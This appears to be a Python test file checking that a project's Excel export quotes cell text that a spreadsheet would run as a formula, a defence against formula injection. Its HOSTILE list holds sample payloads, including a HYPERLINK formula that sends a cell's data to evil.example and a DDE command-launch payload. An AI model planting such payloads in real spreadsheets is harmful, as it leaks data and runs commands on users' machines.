"""Text that a spreadsheet would run as a formula leaves every .xlsx export as text."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from zhifa.core.exports import xlsx_response
from zhifa.core.tabular import Column, template_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content: bytes):
    return load_workbook(io.BytesIO(content)).worksheets[0]


def test_every_text_a_spreadsheet_would_run_is_written_as_quoted_text():
    response = xlsx_response("测试", ["名称", "数量"], [[text, 1] for text in HOSTILE])
    sheet = _cells(response.content)
    written = [(row[0].value, row[0].data_type, row[0].quotePrefix) for row in sheet.iter_rows(2)]
    assert written == [(text, "s", True) for text in HOSTILE]


def test_numbers_dates_and_plain_text_are_left_as_they_are():
    rows = [["舟山海鲜酒楼有限公司", -58, 3.5, dt.date(2026, 12, 1), "A-1", None]]
    sheet = _cells(
        xlsx_response("测试", ["名称", "差额", "比例", "日期", "编码", "空"], rows).content
    )
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells[:3]] == [
        ("舟山海鲜酒楼有限公司", "s", False),
        (-58, "n", False),
        (3.5, "n", False),
    ]
    assert (cells[3].value, cells[3].data_type) == (dt.datetime(2026, 12, 1), "d")
    assert (cells[4].value, cells[4].quotePrefix) == ("A-1", False)


def test_a_control_character_stored_before_the_checks_is_replaced_not_a_crash():
    sheet = _cells(xlsx_response("测试", ["名称"], [["舟山\x00酒楼\x1b"]]).content)
    assert sheet["A2"].value == "舟山\ufffd酒楼\ufffd"


def test_an_import_template_quotes_an_example_that_looks_like_a_formula():
    columns = (Column("罚款幅度", "penalty", False, "如 -500 元以内", "-500"),)
    workbook = load_workbook(io.BytesIO(template_workbook("模板", columns)))
    example = workbook.worksheets[0]["A2"]
    assert (example.value, example.data_type, example.quotePrefix) == ("-500", "s", True)
